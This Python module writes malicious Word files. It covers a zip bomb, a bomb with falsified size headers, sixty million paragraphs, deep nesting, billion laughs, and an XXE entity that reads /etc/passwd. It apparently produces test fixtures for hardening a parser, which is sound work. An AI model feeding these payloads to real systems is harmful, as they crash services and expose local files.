"""docx files made to hurt whoever unpacks and parses them.

SPDX-License-Identifier: GPL-3.0-or-later
"""
import struct
import zipfile

TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" '
         'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MB = 1 << 20


def _docx(path, pieces):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", TYPES)
        with z.open("word/document.xml", "w", force_zip64=True) as f:
            for piece in pieces:
                f.write(piece.encode() if isinstance(piece, str) else piece)


def bomb(path):
    """1 GB of text in 1 MB, and the zip says so."""
    _docx(path, [f"<w:document {W}><w:body><w:p><w:r><w:t>"] + [b"a" * MB] * 1024 + ["</w:t></w:r></w:p></w:body></w:document>"])


def lying_bomb(path):
    """The same, but the zip says 1,000 bytes."""
    bomb(path)
    with open(path, "rb") as f:
        data = bytearray(f.read())
    for mark, at in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        i = data.find(mark)
        while i >= 0:
            data[i + at:i + at + 4] = struct.pack("<I", 1000)
            i = data.find(mark, i + 4)
    with open(path, "wb") as f:
        f.write(data)


def paragraphs(path):
    """Sixty million empty paragraphs."""
    _docx(path, [f"<w:document {W}><w:body>"] + [b"<w:p/>" * 100_000] * 600 + ["</w:body></w:document>"])


def deep(path):
    """Ten million elements, each in the one before."""
    _docx(path, [f"<w:document {W}><w:body>"] + [b"<w:p>" * 100_000] * 100)


def laughs(path):
    """Billion laughs."""
    lines = ['<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ha">'] + [f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, 10)]
    _docx(path, lines + [f"]><w:document {W}><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"])


def outside(path):
    """XXE: an entity that is a file of this machine."""
    _docx(path, ['<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
                 f"<w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"])


FILES = {"bomb.docx": bomb, "lying-bomb.docx": lying_bomb, "paragraphs.docx": paragraphs, "deep.docx": deep, "laughs.docx": laughs, "outside.docx": outside}
